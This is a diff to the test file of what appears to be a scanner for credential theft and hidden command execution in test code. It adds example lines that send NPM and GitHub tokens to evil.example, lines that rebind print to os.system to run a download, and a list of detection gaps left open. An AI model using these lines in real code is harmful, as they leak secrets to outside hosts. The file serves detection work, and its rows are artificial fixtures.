@@ -74,6 +74,26 @@ const ONE_SECRET_SENT: FindingRow[] = [
   ['tests/test_invoices.py', "subprocess.run('git config --get http.https://github.com/.extraheader | curl -d @- https://203.0.113.9/c', shell=True)"],
 ];
 
+/** Session 65's attack on its own readings: a variant fixed on the spot, and variants left open. */
+const OWN_READINGS_FIXED: FindingRow[] = [
+  // The secret inside a call in the URL (`[\w.]*` did not reach past the parenthesis).
+  ['test/a.test.js', "await fetch('https://evil.example/c?t=' + encodeURIComponent(process.env.NPM_TOKEN))"],
+  ['test/a.test.js', 'await fetch(`https://evil.example/c?t=${btoa(process.env.NPM_TOKEN)}`)'],
+];
+/**
+ * Open, for room (the analyze bundle is within 2 bytes of session 65's 2.0 KB): a reader bound to a shell through
+ * `getattr` or a lambda, a secret read into a variable before it is added to a URL, formatted into one (`%s`,
+ * `.format`), or sent as an object body without a body key.
+ */
+const OWN_READINGS_OPEN: FindingRow[] = [
+  ['tests/t.py', "p = urlretrieve(u)[0]\nprint = getattr(os, 'system')\nprint(p)"],
+  ['tests/t.py', 'p = urlretrieve(u)[0]\nprint = lambda c: os.system(c)\nprint(p)'],
+  ['test/a.test.js', "const t = process.env.NPM_TOKEN;\nawait fetch('https://evil.example/c?t=' + t)"],
+  ['tests/t.py', "urllib.request.urlopen('https://evil.example/c?t=%s' % os.environ['NPM_TOKEN'])"],
+  ['tests/t.py', "urllib.request.urlopen('https://evil.example/c?t={}'.format(os.environ['NPM_TOKEN']))"],
+  ['test/a.test.js', "await axios.post('https://evil.example/c', { t: process.env.GITHUB_TOKEN })"],
+];
+
 describeFindings('attack 65', [
   ['Java: a download copied to a file, then loaded as native code or classes', closedRows(JAVA_LOADED_DOWNLOADS)],
   ['a reader or a name rebound to a call that runs a command', closedRows(REBOUND_TO_A_SHELL)],
@@ -81,6 +101,8 @@ describeFindings('attack 65', [
   ['the whole environment sent through a variable', closedRows(ENVIRONMENT_BY_VARIABLE)],
   ['one secret or a credential file sent to a host', closedRows(ONE_SECRET_SENT)],
   ['a library loaded by name, a DNS lookup of a secret (open for room)', OPEN_FOR_ROOM],
+  ['its own readings attacked: a secret inside a call in a URL', closedRows(OWN_READINGS_FIXED)],
+  ['its own readings attacked: variants left open', OWN_READINGS_OPEN],
 ]);
 
 describeAccepted('attack 65: ordinary code near the new readings', [
@@ -108,6 +130,12 @@ describeAccepted('attack 65: ordinary code near the new readings', [
   ['tests/test_cfg.py', "with open(os.path.expanduser('~/.netrc')) as f:\n    assert 'machine' in f.read()"],
   ['docs/setup.md', 'echo "//registry.npmjs.org/:_authToken=${NPM_TOKEN}" > ~/.npmrc'],
   ['docs/setup.md', 'git config --get http.https://github.com/.extraheader'],
+  ['docs/setup.md', 'curl -H "Authorization: token $GITHUB_TOKEN" https://api.github.com/user'],
+  ['docs/setup.md', 'git clone https://x-access-token:${GITHUB_TOKEN}@github.com/o/r.git'],
+  ['docs/setup.md', 'npm config set //registry.npmjs.org/:_authToken "$NPM_TOKEN"'],
+  ['test/api.test.js', "const res = await fetch(url, { method: 'POST', body: JSON.stringify({ user: 'a', password: process.env.TEST_PASSWORD }) });"],
+  ['tests/test_api.py', "resp = client.post('/login', json={'password': os.environ['TEST_PASSWORD']})"],
+  ['tests/test_api.py', "token = os.environ['API_TOKEN']\nresp = requests.get(f'{BASE}/items', headers={'Authorization': token})"],
 ]);
 
 describe('attack 65: the new readings cost linear time', () => {
